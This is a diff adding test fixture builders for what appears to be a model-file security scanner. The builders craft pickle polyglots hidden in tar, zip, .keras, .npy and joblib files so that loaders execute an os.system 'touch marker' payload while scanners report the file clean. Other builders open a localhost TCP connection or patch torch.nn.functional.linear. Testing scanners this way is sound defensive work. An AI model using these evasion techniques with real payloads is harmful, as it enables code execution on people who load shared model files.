@@ -181,3 +181,154 @@ def zip_of(members: dict[str, bytes]) -> bytes:
         for name, data in members.items():
             zf.writestr(name, data)
     return buf.getvalue()
+
+
+# ----------------------------------------------------------------------- bypass classes (issue 9)
+# Each builder writes a file that its real loader executes (touching ``marker``) while an
+# earlier scanner called it clean. tests/test_scan_bypass.py proves both halves.
+
+
+def _system_ops(marker: Path) -> bytes:
+    """Protocol-0 opcodes that run ``touch marker`` and leave its result on the stack."""
+    return b"cos\nsystem\n(S'touch " + str(marker).encode() + b"'\ntR"
+
+
+def tar_pickle_polyglot(marker: Path) -> bytes:
+    """A legacy torch tar whose first header is also NONE + BINBYTES spanning the archive,
+    closed by a STOP after it: a pickle of one bytes object, and a tar for torch.load."""
+    import tarfile
+
+    members = {
+        "NBxxxx": b"",  # bytes 2..5 of its name become the BINBYTES length
+        "storages": b"\x80\x02" + _system_ops(marker) + b"." + pickle.dumps([], protocol=2),
+        "tensors": pickle.dumps(0, protocol=2),
+        "pickle": pickle.dumps({"w": 1}, protocol=2),
+    }
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    raw = bytearray(buf.getvalue())
+    raw[2:6] = struct.pack("<I", len(raw) - 6)
+    # the tar checksum covers the name: recompute it the way tarfile writes it
+    chk = 256 + sum(raw[:148]) + sum(raw[156:512])
+    raw[148:156] = b"%06o\x00 " % chk
+    return bytes(raw) + b"."
+
+
+def zip_with_pickle_prefix(zip_bytes: bytes) -> bytes:
+    """PROTO 4 + BINBYTES over the whole zip, whose comment is the closing STOP: a pickle of
+    one bytes object, and (Python's zipfile tolerates a prefix) the same zip as before."""
+    import zipfile
+
+    src = zipfile.ZipFile(io.BytesIO(zip_bytes))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as zf:
+        for info in src.infolist():
+            zf.writestr(info, src.read(info.filename))
+        zf.comment = b"."
+    body = out.getvalue()
+    assert body.endswith(b".")
+    return b"\x80\x04B" + struct.pack("<I", len(body) - 1) + body
+
+
+def npy_object(obj: object) -> bytes:
+    import numpy as np
+
+    buf = io.BytesIO()
+    np.save(buf, np.array([obj], dtype=object), allow_pickle=True)
+    return buf.getvalue()
+
+
+def keras_look_alike_with_assets(marker: Path) -> bytes:
+    """A zip that looks like a .keras file at the top, with an object .npy under assets/."""
+    return zip_of({"config.json": json.dumps({"class_name": "Sequential", "config": {}}).encode(),
+                   "metadata.json": b'{"keras_version": "3.3.3"}',
+                   "assets/x.npy": npy_object(touch_marker(marker))})  # fmt: skip
+
+
+def _unicode(s: str) -> bytes:
+    raw = s.encode()
+    return b"X" + struct.pack("<I", len(raw)) + raw
+
+
+def _joblib_wrapper_state(dtype: str, shape: tuple[int, ...], align: bool = False) -> bytes:
+    """The SETITEMS body of a NumpyArrayWrapper state (joblib >= 1.2 adds the alignment)."""
+    dims = b"".join(b"K" + bytes([d]) for d in shape)
+    return (
+        b"}(" + _unicode("subclass") + b"cnumpy\nndarray\n"
+        + _unicode("shape") + b"(" + dims + b"t"
+        + _unicode("order") + _unicode("C")
+        + _unicode("dtype") + b"cnumpy\ndtype\n" + _unicode(dtype) + b"\x89\x88\x87R"
+        + _unicode("allow_mmap") + b"\x89"
+        + (_unicode("numpy_array_alignment_bytes") + b"K\x10" if align else b"") + b"u"
+    )  # fmt: skip
+
+
+def joblib_padding_hides_a_pickle(marker: Path) -> bytes:
+    """joblib skips the alignment padding; pickle.load reads the padding-length byte (93,
+    EMPTY_LIST) and the padding as opcodes: the same file is harmless data to one and a
+    payload to the other."""
+    ops = _system_ops(marker)
+    filler = 93 - len(ops)
+    if filler % 2:
+        ops = ops.replace(b"'\ntR", b" '\ntR")  # one more byte: a space the shell ignores
+        filler -= 1
+    assert filler >= 0
+    padding = ops + b"N0" * (filler // 2)
+    assert len(padding) == 93
+    return (
+        b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81"
+        + _joblib_wrapper_state("u1", (0,), align=True) + b"b" + b"]" + padding + b"."
+    )  # fmt: skip
+
+
+def joblib_reconstructor_wrapper(marker: Path) -> bytes:
+    """A NumpyArrayWrapper built by copyreg._reconstructor: joblib reads 5 array bytes,
+    a scanner that misses the wrapper reads them as BINBYTES hiding the payload."""
+    payload = _system_ops(marker) + b"0"
+    array = b"B" + struct.pack("<I", len(payload))
+    return (
+        b"\x80\x02ccopyreg\n_reconstructor\n"
+        + b"cjoblib.numpy_pickle\nNumpyArrayWrapper\ncbuiltins\nobject\nN\x87R"
+        + _joblib_wrapper_state("u1", (5,)) + b"b" + array + payload + b"."
+    )  # fmt: skip
+
+
+def joblib_itemsize_gap(marker: Path) -> bytes:
+    """A 'U5' array: numpy (and joblib) read 20 bytes per item; a scanner that takes the 5
+    for the item size reads the other 15 as opcodes, a BINBYTES over the payload."""
+    payload = _system_ops(marker) + b"0"
+    array = b"A\x00\x00\x00\x00B" + struct.pack("<I", 10 + len(payload)) + b"\x00" * 10
+    assert len(array) == 20
+    return (
+        b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81"
+        + _joblib_wrapper_state("U5", (1,)) + b"b" + array + payload + b"."
+    )  # fmt: skip
+
+
+def joblib_legacy_sidecar(folder: Path, marker: Path) -> Path:
+    """An old joblib pickle naming a side .npy file (an object array with the payload)."""
+    name = b"model.pkl_01.npy"
+    write(folder / name.decode(), npy_object(touch_marker(marker)))
+    data = (b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81}("
+            + _unicode("filename") + b"X" + struct.pack("<I", len(name)) + name
+            + _unicode("subclass") + b"cnumpy\nndarray\n"
+            + _unicode("allow_mmap") + b"\x89ub.")  # fmt: skip
+    return write(folder / "model.pkl", data)
+
+
+def sklearn_callback_client(port: int) -> bytes:
+    """scikit-learn's callback transport re-exports multiprocessing.connection.Client:
+    unpickling ``Client(("127.0.0.1", port))`` opens a TCP connection."""
+    return (b"\x80\x02csklearn.callback._transport\nClient\n"
+            + _unicode("127.0.0.1") + b"M" + struct.pack("<H", port) + b"\x86\x85R.")  # fmt: skip
+
+
+def torch_functional_patch() -> bytes:
+    """``torch.nn.functional`` reached as torch.nn.modules.activation.F (a module object), and
+    BUILD on it: replaces ``torch.nn.functional.linear`` in the loading process."""
+    return (b"\x80\x04" + b"\x8c\x1btorch.nn.modules.activation\x8c\x01F\x93"
+            + b"}(" + _unicode("linear") + _unicode("patched") + b"ub.")  # fmt: skip
